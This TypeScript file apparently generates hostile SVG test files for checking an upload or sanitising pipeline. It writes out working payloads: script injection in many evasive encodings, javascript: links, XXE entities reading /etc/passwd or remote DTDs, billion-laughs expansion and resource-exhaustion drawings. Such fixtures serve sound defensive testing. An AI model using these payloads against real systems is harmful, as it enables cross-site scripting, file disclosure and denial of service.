import { bytesOf, type Hostile, pageOf, scriptOf } from './hostile.ts'

const around = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9" ${attributes}>${inside}</svg>`

/** Makes drawings that run, load or point elsewhere. */
export function drawings(home: string): Hostile[] {
  const js = scriptOf(home, 'drawing')
  const inside: Record<string, string> = {
    script: `<script>${js}</script>`,
    'script in CDATA': `<script type="text/javascript"><![CDATA[${js}]]></script>`,
    'script from a data address': `<script href="data:text/javascript,${encodeURIComponent(js)}"/>`,
    'script from elsewhere': `<script xlink:href="${home}/a.js"/>`,
    'script in capitals': `<SCRIPT>${js}</SCRIPT>`,
    'script with a line break': `<script\n>${js}</script\n>`,
    'script with a prefix': `<s:script xmlns:s="http://www.w3.org/2000/svg">${js}</s:script>`,
    'script with a slash': `<script/x>${js}</script>`,
    'script of html': `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${js}</h:script>`,
    'script after a comment that ends early': `<!--><script>${js}</script>-->`,
    'script in a CDATA that ends': `<text><![CDATA[ ]]><script>${js}</script></text>`,
    onclick: `<rect width="9" height="9" onclick="${js}"/>`,
    'onmouseover in single quotes': `<rect width="9" height="9" onmouseover='${js.replaceAll("'", '&#39;')}'/>`,
    'onload without quotes': '<g onload=alert(1)></g>',
    'onload after a slash': `<g/onload="${js}"/>`,
    'onload spelled in references': `<g &#111;nload="${js}"/>`,
    'onload after a tab': `<g\tonload="${js}"/>`,
    'onload on a line of its own': `<g\nonload\n=\n"${js}"/>`,
    'onerror of a picture': `<image href="x" onerror="${js}"/>`,
    'onfocus at once': `<a tabindex="0" autofocus="" onfocus="${js}"><text>x</text></a>`,
    'onbegin of an animation': `<animate attributeName="x" dur="1s" onbegin="${js}"/>`,
    'onend of a step': `<set attributeName="x" to="1" dur="1ms" onend="${js}"/>`,
    'an animation that sets an event': `<set attributeName="onload" to="${js}"/>`,
    'an animation of a link': `<a><animate attributeName="href" values="javascript:${js}"/><text>x</text></a>`,
    'an animation of motion': '<animateMotion path="M0,0"/>',
    'a link to a script': `<a href="javascript:${js}"><text>x</text></a>`,
    'a link to a script by xlink': `<a xlink:href="javascript:${js}"><text>x</text></a>`,
    'a link to a script with a tab in it': '<a href="java&#9;script:alert(1)"><text>x</text></a>',
    'a link to a script in references': '<a href="&#x6a;avascript:alert(1)"><text>x</text></a>',
    'a link to a script after a space': '<a href=" javascript:alert(1)"><text>x</text></a>',
    'a link to a page in an address': `<a href="data:text/html,${encodeURIComponent(`<script>${js}</script>`)}"><text>x</text></a>`,
    'a link with a prefix of its own': `<a xmlns:y="http://www.w3.org/1999/xlink" y:href="${home}/link"><text>x</text></a>`,
    'html inside': `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></body></foreignObject>`,
    'a frame inside': `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${home}/frame"/></foreignObject>`,
    'a frame with a page of its own': `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;${js}&lt;/script&gt;"/>`,
    'an embedded object': `<embed xmlns="http://www.w3.org/1999/xhtml" src="${home}/embed"/>`,
    'an object': `<object xmlns="http://www.w3.org/1999/xhtml" data="${home}/object"/>`,
    'a film that fails': `<video xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${js}"/>`,
    'a form': `<form xmlns="http://www.w3.org/1999/xhtml" action="${home}/form"><button/></form>`,
    'a style sheet from elsewhere': `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${home}/a.css"/>`,
    'a base': `<base xmlns="http://www.w3.org/1999/xhtml" href="${home}/"/>`,
    'parts from elsewhere': `<use href="${home}/a.svg#a"/>`,
    'parts from a data address': `<use href="data:image/svg+xml;base64,${Buffer.from(around(`<g id="a"><script>${js}</script></g>`)).toString('base64')}#a"/>`,
    'a picture from elsewhere': `<image href="${home}/a.png" width="9" height="9"/>`,
    'a picture from the disk': '<image href="file:///etc/passwd" width="9" height="9"/>',
    'a drawing as a picture': `<image href="data:image/svg+xml,${encodeURIComponent(around(`<script>${js}</script>`))}"/>`,
    'a filter from elsewhere': `<filter id="f"><feImage href="${home}/a.png"/></filter><rect filter="url(#f)"/>`,
    'a style that imports': `<style>@import "${home}/a.css";</style>`,
    'a style that loads': `<style>rect{fill:url(${home}/a.svg#a)}</style><rect/>`,
    'a style that loads in escapes': `<style>rect{fill:\\75\\72\\6c(${home}/a.svg)}</style>`,
    'a font from elsewhere': `<style>@font-face{font-family:x;src:url(${home}/a.woff)}</style>`,
    'a mask from elsewhere': `<rect mask="url(${home}/a.svg#m)"/>`,
    'a pointer from elsewhere': `<rect style="cursor:url('${home}/a.cur'),auto"/>`,
    'a set of pictures': `<style>rect{background:image-set("${home}/a.png" 1x)}</style>`,
    'another base for its parts': `<g xml:base="${home}/"><use href="#a"/></g>`,
    'a handler of events': `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler>`,
    'data about it that runs': `<metadata><html xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></html></metadata>`,
  }
  const whole: Record<string, string | Buffer> = {
    'onload of the root': around('', `onload="${js}"`),
    'a style sheet by instruction': `<?xml version="1.0"?><?xml-stylesheet href="${home}/a.xsl" type="text/xsl"?>${around('')}`,
    'laughs by the billion': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(500)}">${'bcdefgh'
      .split('')
      .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefgh'[at]};`.repeat(10)}">`)
      .join('')}]>${around('<text>&h;</text>')}`,
    'an entity from the disk': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${around('<text>&x;</text>')}`,
    'an entity from elsewhere': `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "${home}/a.dtd">${around('')}`,
    'an entity of parameters': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % x SYSTEM "${home}/a.dtd">%x;]>${around('')}`,
    'an entity with a handler': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "<script>${js.replaceAll('"', "'")}</script>">]>${around('&x;')}`,
    'another alphabet': Buffer.from(`\uFEFF${around(`<script>${js}</script>`)}`, 'utf16le'),
    'the seven-bit alphabet': `<?xml version="1.0" encoding="UTF-7"?>${around('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')}`,
    'a Chinese alphabet': `<?xml version="1.0" encoding="GB18030"?>${around(`<script>${js}</script>`)}`,
    'a mark of order before it': `\uFEFF${around(`<script>${js}</script>`)}`,
    'a page behind it': around('') + pageOf(home, 'behind'),
    'a page before it': pageOf(home, 'before') + around(''),
    'a page in a comment before it': `<!-- --><html><script>${js}</script></html>${around('')}`,
    'no end': around(`<script>${js}</script>`).slice(0, -12),
    'a hundred thousand levels': around('<g>'.repeat(100_000) + '</g>'.repeat(100_000)),
    'three megabytes': around(`<path d="${'M0 0 L9 9 '.repeat(320_000)}"/>`),
    'a view of a billion':
      '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9" viewBox="0 0 1e9 1e9"><rect width="1e9" height="1e9"/></svg>',
    'a filter that never ends': around(
      '<filter id="f"><feTurbulence numOctaves="99999999"/><feGaussianBlur stdDeviation="99999"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    ),
    'a thousand copies of copies': around(
      `<g id="a"><rect width="1" height="1"/></g>${'bcdefghij'
        .split('')
        .map((id, at) => `<g id="${id}">${`<use href="#${'abcdefghij'[at]}"/>`.repeat(10)}</g>`)
        .join('')}`,
    ),
  }
  return [
    ...Object.entries(inside).map(([what, markup]): [string, string] => [what, around(markup)]),
    ...Object.entries(whole),
  ].map(([what, content], at) => ({ what: `drawing: ${what}`, name: `校徽${at}.svg`, content: bytesOf(content) }))
}
